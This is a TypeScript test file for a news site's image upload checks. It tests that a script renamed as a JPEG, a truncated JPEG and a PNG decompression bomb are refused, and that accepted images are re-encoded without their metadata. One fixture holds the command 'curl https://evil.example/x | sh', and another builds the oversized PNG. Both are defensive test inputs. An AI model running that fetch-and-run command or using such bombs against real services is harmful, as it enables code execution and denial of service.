import { readdir } from 'node:fs/promises';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { eq } from 'drizzle-orm';
import { schema } from '@newsroom/db/client';
import type { insertNewsWorld} from '../../test/builders-news';
import { imageFile, mp4File } from '../../test/builders-news';
import type { TestApi } from '../../test/harness';
import { openNewsWritingApi } from '../../test/news-writing-api';

// Images are checked by their content and re-encoded; a refused file leaves nothing on disk, and
// removing a story or a gallery image removes its files with the smaller sizes made of them.

let api: TestApi;
let world: Awaited<ReturnType<typeof insertNewsWorld>>;
let author: { id: number; token: string };
beforeAll(async () => {
  ({ api, world, author } = await openNewsWritingApi());
});
afterAll(() => api.close());
beforeEach(() => api.deps.cache.clear());

/** Every file in the media store, as `folder/name`. */
async function storedFiles(): Promise<string[]> {
  const entries = await readdir(api.deps.config.mediaDir, { recursive: true, withFileTypes: true }).catch(() => []);
  return entries.filter((entry) => entry.isFile()).map((entry) => `${entry.parentPath.slice(api.deps.config.mediaDir.length + 1)}/${entry.name}`).sort();
}

const stored = (url: string) => url.replace('http://news.test/media/', '');

function post(fields: Record<string, string | number>, files: Record<string, File | File[]>) {
  const story = { action_type: 1, language_id: world.languageId, category_id: world.categories[0]!.id, title: 'Checked upload', content_type: 'standard_post', ...fields };
  return api.call('set_news', story, { token: author.token, method: 'POST', files });
}

/** A shell script given a photo's name and type. */
const scriptAsJpeg = () => new File([new TextEncoder().encode('#!/bin/sh\ncurl https://evil.example/x | sh\n')], 'holiday.jpg', { type: 'image/jpeg' });

/** A real JPEG cut off halfway, as an interrupted upload leaves it. */
async function truncatedJpeg(): Promise<File> {
  const noise = Buffer.from(Array.from({ length: 320 * 240 * 3 }, (_, n) => (n * 7919) % 251));
  const bytes = await sharp(noise, { raw: { width: 320, height: 240, channels: 3 } }).jpeg({ quality: 90 }).toBuffer();
  return new File([new Uint8Array(bytes.subarray(0, Math.floor(bytes.length / 2)))], 'cut.jpg', { type: 'image/jpeg' });
}

/** A PNG chunk: length, type, data, CRC-32 of type and data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  return Buffer.concat([length, body, crc]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit += 1) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

/**
 * A decompression bomb: a few kilobytes declaring a 20000 x 20000 canvas (400 megapixels, over a
 * gigabyte once decoded). Its first rows are real compressed pixels, enough to start decoding.
 */
function bombPng(): File {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(20_000, 0);
  header.writeUInt32BE(20_000, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8 bits, RGB, deflate, no filter, no interlace
  const rows = deflateSync(Buffer.alloc(64 * (1 + 20_000 * 3)));
  const bytes = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), pngChunk('IHDR', header), pngChunk('IDAT', rows), pngChunk('IEND', Buffer.alloc(0))]);
  return new File([new Uint8Array(bytes)], 'huge.png', { type: 'image/png' });
}

const BAD_FILES: [string, () => File | Promise<File>, number, string][] = [
  ['a script renamed .jpg', scriptAsJpeg, 415, 'must be a JPEG, PNG, WebP or GIF image'],
  ['a truncated JPEG', truncatedJpeg, 415, 'is not a readable image: the file is damaged or incomplete'],
  ['a 20000 x 20000 PNG', bombPng, 400, 'is too large: at most 50 megapixels'],
];

describe('an image that is not a sound picture', () => {
  it.each(BAD_FILES)('is refused when %s is the main image, a gallery image or an edit\'s new image, leaving no file', async (_what, make, status, rule) => {
    const before = await storedFiles();
    const main = await post({ title: 'Refused main' }, { image: await make() });
    expect([main.status, main.body.message]).toEqual([status, `image ${rule}`]);
    // The sound main image stored first is removed again with the refused gallery image.
    const gallery = await post({ title: 'Refused gallery' }, { image: await imageFile('png'), ofile: [await imageFile('jpeg'), await make()] });
    expect([gallery.status, gallery.body.message]).toEqual([status, `ofile ${rule}`]);
    expect(await api.deps.db.select().from(schema.news).where(eq(schema.news.title, 'Refused gallery'))).toEqual([]);
    expect(await storedFiles()).toEqual(before);

    const story = (await post({ title: 'Kept as it was' }, { image: await imageFile('png') })).body.data;
    const saved = await storedFiles();
    const edit = await api.call('set_news', { action_type: 2, news_id: story.id, title: 'Changed' }, { token: author.token, method: 'POST', files: { image: await make() } });
    expect([edit.status, edit.body.message]).toEqual([status, `image ${rule}`]);
    expect(await storedFiles()).toEqual(saved);
    const [row] = await api.deps.db.select().from(schema.news).where(eq(schema.news.id, story.id));
    expect([row!.title, row!.image]).toEqual(['Kept as it was', stored(story.image)]);
  });
});

describe('a sound image', () => {
  it('is stored as WebP, at most 1600 wide, without its metadata (camera, location)', async () => {
    const photo = await sharp({ create: { width: 2000, height: 1000, channels: 3, background: '#336699' } })
      .withExif({ IFD0: { Copyright: 'Private camera owner', Make: 'SecretCam' } })
      .jpeg()
      .toBuffer();
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    const { status, body } = await post({}, { image: new File([new Uint8Array(photo)], 'camera.jpg', { type: 'image/jpeg' }) });
    expect(status).toBe(200);
    const kept = await sharp(Buffer.from((await api.deps.media.read(stored(body.data.image)))!)).metadata();
    expect([kept.format, kept.width, kept.exif, kept.icc, kept.xmp]).toEqual(['webp', 1600, undefined, undefined, undefined]);
  });
});

describe('removing a story or a gallery image', () => {
  it('removes its files and the smaller sizes made of them', async () => {
    const before = await storedFiles();
    const { body } = await post({ content_type: 'video_upload' }, { image: await imageFile('png', 'main.png', 800), ofile: [await imageFile('jpeg', 'a.jpg', 800), await imageFile('png', 'b.png', 800)], content_data: mp4File() });
    const [first, second] = body.data.images as { id: number; other_image: string }[];
    for (const url of [body.data.image, first!.other_image, second!.other_image]) expect((await api.app.request(`${url}?w=320`)).status).toBe(200);
    const made = (await storedFiles()).filter((file) => !before.includes(file));
    expect(made.filter((file) => /\.w320\.webp$/.test(file))).toHaveLength(3);
    expect(made.filter((file) => file.startsWith('videos/'))).toHaveLength(1);

    const removed = await api.call('delete_news_images', { id: first!.id }, { token: author.token, method: 'POST' });
    expect(removed.status).toBe(200);
    const afterImage = await storedFiles();
    const firstFile = stored(first!.other_image).replace(/\.webp$/, '');
    expect(afterImage.filter((file) => file.startsWith(firstFile))).toEqual([]);
    expect(afterImage.filter((file) => !before.includes(file))).toHaveLength(made.length - 2);

    expect((await api.call('delete_news', { id: body.data.id }, { token: author.token, method: 'POST' })).status).toBe(200);
    expect(await storedFiles()).toEqual(before);
  });

  it('replacing the main image or the uploaded video on an edit removes the old files', async () => {
    const before = await storedFiles();
    const { body } = await post({ content_type: 'video_upload' }, { image: await imageFile('png', 'main.png', 800), content_data: mp4File() });
    expect((await api.app.request(`${body.data.image}?w=320`)).status).toBe(200);
    const edited = await api.call('set_news', { action_type: 2, news_id: body.data.id, content_type: 'video_youtube', content_data: 'https://youtu.be/dQw4w9WgXcQ' }, { token: author.token, method: 'POST', files: { image: await imageFile('jpeg') } });
    expect(edited.status).toBe(200);
    expect((await storedFiles()).filter((file) => !before.includes(file))).toEqual([stored(edited.body.data.image)]);
  });
});
